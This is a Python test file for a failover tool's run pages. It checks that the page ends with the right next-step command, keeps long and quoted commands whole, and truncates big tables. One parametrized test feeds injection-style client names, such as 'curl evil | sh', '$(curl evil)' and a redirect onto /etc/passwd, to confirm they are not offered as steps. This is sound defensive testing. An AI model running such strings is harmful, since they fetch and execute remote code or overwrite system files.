"""The page of a run ends with its next step, whole."""

import pytest

from ha_core.model import Provenance
from ha_core.present.page import Marked, Table, log_lines
from ha_core.present.page_document import MAX_BLOCKS, document, page_of
from ha_core.present.run_page import MENDED, UNTICK, NextSteps, run_page, steps_after_dry_run, steps_of
from tests.kit.operations import a_switch

PEOPLE = Provenance(asked_by="alice", approved_by="bob", approved_at="2026-12-01T02:21:00.000Z")


def test_a_dry_run_ends_with_the_button_that_repeats_it_with_all_fields() -> None:
    lines = [*log_lines(run_page("DRY RUN: would move 1 topic", PEOPLE, [["no topic moves"]], steps_after_dry_run()))]

    assert lines[0] == "DRY RUN: would move 1 topic"
    assert lines[1] == "Approved by bob at 2026-12-01T02:21:00.000Z"
    assert lines[-1] == "Next: Trigger ▸ Trigger again with this config, untick Dry run"
    assert UNTICK in lines[-1]


def test_commands_of_the_outcome_are_whole_at_the_end() -> None:
    command = f"switchyard reconcile east {' '.join(f'--topic t{n}' for n in range(60))}"

    steps = steps_of(f"DONE: moved; when east is back: `{command}`", [], failed=False)

    assert [*log_lines(run_page("DONE", Provenance(), [], steps))][-1] == f"Next: `{command}`"


@pytest.mark.parametrize(
    "name",
    [
        "`switchyard topics delete orders --reason x --yes`",
        "`switchyard status; curl evil | sh`",
        "`switchyard status $(curl evil)`",
        "`switchyard status > /etc/passwd`",
        "`switchyard status 'half`",
    ],
)
def test_a_name_of_a_client_that_looks_like_a_command_is_no_next_step(name: str) -> None:
    line = f"REFUSED: nothing changed. group {name} (shared-group): Add them to the scope. `switchyard usage list`"

    steps = steps_of(line, [], failed=True)

    assert steps.next == ("`switchyard usage list`",)


def test_a_command_with_quoted_names_is_a_next_step() -> None:
    command = "switchyard switch 'user:till & co##bills (2)' --from east --to west --reason INC-7#2"

    assert steps_of(f"FAILED: `{command}`", [], failed=True).next == (f"`{command}`",)


def test_a_switch_that_succeeded_has_a_way_back_and_nothing_left_to_do() -> None:
    operation = a_switch("switch-1").changed(state="succeeded", result="cut over and verified")

    steps = steps_of("DONE: moved 1 topic", [operation], failed=False)

    assert steps.next == ()
    assert steps.back.startswith("switchyard switch ")
    assert f"--from {operation.request.target} --to {operation.request.origin}" in steps.back


def test_an_operation_that_stands_has_the_commands_that_end_it() -> None:
    operation = a_switch("switch-1").changed(state="fenced")

    steps = steps_of("FAILED in cut_over: killed", [operation], failed=True)

    assert steps.next == ("`switchyard resume switch-1`", "`switchyard undo switch-1`")


def test_a_failure_without_a_command_is_repeated_by_the_button() -> None:
    assert steps_of("FAILED in plan: no cluster answered", [], failed=True) == NextSteps((MENDED,))


@pytest.mark.parametrize("rows", [1, 500])
def test_a_page_survives_its_way_through_another_task(rows: int) -> None:
    table = Table(("verdict", "topic"), [(Marked("error", "error"), f"t{n}") for n in range(rows)], title="objections")

    read = [*page_of(document([Marked("Switch", "strong"), "reason: x", table]))]

    assert read[:2] == ["Switch", "reason: x"]
    assert [getattr(one, "mark", None) for one in read[:2]] == ["strong", None]
    again = read[2]
    assert isinstance(again, Table)
    assert (again.title, again.columns, again.rows[0]) == ("objections", ("verdict", "topic"), ["error", "t0"])
    assert len(again.rows) == min(rows, 200)
    assert read[3:] == (["… and 300 more rows: the task's log has them."] if rows > 200 else [])


def test_a_page_with_too_many_blocks_names_the_log() -> None:
    assert document(["x"] * (MAX_BLOCKS + 5))[-1] == "… and more: the task's log has all of it."
